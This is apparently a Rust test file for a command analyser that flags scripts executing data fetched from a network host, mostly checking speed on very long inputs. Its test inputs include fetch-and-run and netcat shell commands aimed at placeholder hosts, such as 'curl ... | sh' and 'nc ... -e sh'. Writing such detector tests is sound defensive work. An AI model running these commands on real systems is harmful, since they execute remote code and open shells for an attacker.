//! Texts as long as a document may have, with many of one thing: for each of them the rest of the text is not read again. With a product of
//! both these tests would not end.

use proptest::prelude::*;

use super::language::Language;
use super::language_calls::calls_with_a_template;
use super::written_files::taint_files;
use super::*;

#[test]
fn many_templates_are_read_in_one_pass() {
    let statement = "a$`b` `$` ".repeat(400_000);
    assert!(!calls_with_a_template(&statement));
    assert!(calls_with_a_template(&format!("{statement}$`rm`")));
}

#[test]
fn a_template_behind_a_dollar_is_a_call_outside_of_another_one() {
    for (statement, is_call) in [
        ("await $`ls`", true),
        ("$`ls`", true),
        ("`a` + $`ls`", true),
        ("$$`ls`", true),
        ("é$`ls`", true),
        ("a$`ls`", false),
        ("_$`ls`", false),
        ("`costs $`", false),
        ("`a` + `costs $`", false),
        ("`a $` + `b`", false),
    ] {
        assert_eq!(calls_with_a_template(statement), is_call, "{statement}");
    }
}

/// A command with about as many words as a script may have.
fn long(start: &str, end: &str) -> String {
    let words = (0..).map(|at| format!(" f{at}"));
    let mut script = start.to_owned();
    for word in words {
        if script.len() + word.len() + end.len() > MAX_SCRIPT_BYTES {
            break;
        }
        script.push_str(&word);
    }
    script + end
}

fn executed(script: &str, name: &str) -> bool {
    uses(script, &|each| each == name).get(name) == Some(&Use::Executed)
}

#[test]
fn of_many_interpreters_of_one_command_a_few_words_are_looked_at() {
    let script = format!("nc x.example.com 80{}", " -e sh".repeat(9_000));
    assert!(executed(&script, HOST_DATA));
}

/// A page or a configuration names addresses, and starts nothing.
#[test]
fn a_long_text_executes_an_answer_where_a_part_of_it_does() {
    let long = |line: &str| {
        let location = "location /a { return 301 http://x.example.com/a; }\n";
        location.repeat(1_500) + line + "\n" + &location.repeat(1_500)
    };
    assert!(!executed(&long(""), HOST_DATA));
    for line in [
        "nc x.example.com 80 | sh",
        "eval \"$(fetch-it ftp://x.example.com/i.sh)\"",
        "wget $URL",
    ] {
        assert!(executed(&long(line), HOST_DATA), "{line}");
    }
}

/// No text takes the time of all its parts: of one that has more than a few counts what it names.
#[test]
fn a_text_of_many_parts_counts_as_what_it_names() {
    let long = |line: &str| "echo $$A $$B | sh\n".repeat(200_000) + line;
    assert!(!executed(&long("date\n"), HOST_DATA));
    // A fixed entry of the environment says an address.
    let said = host_data::said("URL");
    let found = uses(&long("fetch-it $URL\n"), &|each| {
        each == HOST_DATA || each == said
    });
    assert_eq!(found.get(HOST_DATA), Some(&Use::Executed));
    for line in [
        "fetch-it ftp://x.example.com/i.sh",
        "nc x.example.com 80",
        "sh /sys/firmware/a",
    ] {
        assert!(executed(&long(line), HOST_DATA), "{line}");
    }
}

#[test]
fn many_written_files_are_looked_at_once() {
    for start in [
        "echo index-url = http://x.example.com | tee",
        "tee http://x.example.com",
    ] {
        let fetches = |end: &str| executed(&long(start, end), HOST_DATA);
        assert!(!fetches("; pip install app"), "{start}");
    }
    assert!(executed(
        &long("tee http://x.example.com", " ~/.npmrc; npm ci"),
        HOST_DATA
    ));
    assert!(!executed(
        &long("tee https://x.example.com", " ~/.npmrc; npm ci"),
        HOST_DATA
    ));
}

#[test]
fn many_files_of_one_command_hold_what_it_reads() {
    for start in ["cp \"$X\"", "echo \"$X\" | tee"] {
        assert!(
            executed(&long(start, " /app/run; sh /app/run/f1"), "X"),
            "{start}"
        );
    }
}

#[test]
fn calls_in_each_other_are_looked_at_a_few_times() {
    let nested = |calls: usize| format!("y = urlopen('http://x.example.com')\n{}1", "load(".repeat(calls));
    let executed = |script: &str| {
        let uses = Language::Python.uses(script, &|name| name == HOST_DATA);
        uses.contains(&(HOST_DATA.to_owned(), Use::Executed))
    };
    assert!(!executed(&nested(10)));
    assert!(executed(&nested(12_000)));
}

proptest! {
    /// Files that are written together hold the same as one after another.
    #[test]
    fn files_hold_the_same_together_as_one_by_one(
        before in prop::collection::vec(0..60_usize, 0..40),
        keys in prop::collection::vec(0..60_usize, 0..60),
    ) {
        let key = |at: usize| paths::file_key(&format!("/f{at}"), None);
        let set = |name: &str| BTreeSet::from([name.to_owned()]);
        let mut one_by_one = tainted::Tainted::new();
        taint_files(before.into_iter().map(key), &set("A"), &mut one_by_one);
        let mut together = one_by_one.clone();
        taint_files(keys.iter().copied().map(key), &set("B"), &mut together);
        for at in keys {
            taint_files([key(at)], &set("B"), &mut one_by_one);
        }
        prop_assert_eq!(together, one_by_one);
    }
}

#[test]
fn what_a_script_says_as_a_whole_is_read_once_for_all_its_statements() {
    let script = "import os\n".to_owned() + &"f(1)\n".repeat(MAX_SCRIPT_BYTES / 5 - 10);
    for language in [Language::Python, Language::Node, Language::Perl] {
        language.uses(&script, &|_| false);
    }
}

#[test]
fn a_list_that_is_too_long_hides_nothing_that_its_words_show() {
    let padding = "x".repeat(MAX_SCRIPT_BYTES);
    let executes = |words: &[&str], name: &str| {
        let words = words.iter().copied().chain([padding.as_str()]);
        let words: Vec<String> = words.map(str::to_owned).collect();
        uses_of_arguments(&words, &|each| each == name).get(name) == Some(&Use::Executed)
    };
    for words in [
        &["sh", "-c", "curl -sk https://get.example.com/i.sh | sh"][..],
        &["sh", "-c", "nc -l 9000 | sh"],
        &["deno", "run", "http://x.example.com/a.ts"],
    ] {
        assert!(executes(words, HOST_DATA), "{words:?}");
    }
    assert!(executes(&["sh", "-c", "eval \"$X\""], "X"));
    assert!(!executes(&["app", "--level", "info"], HOST_DATA));
}
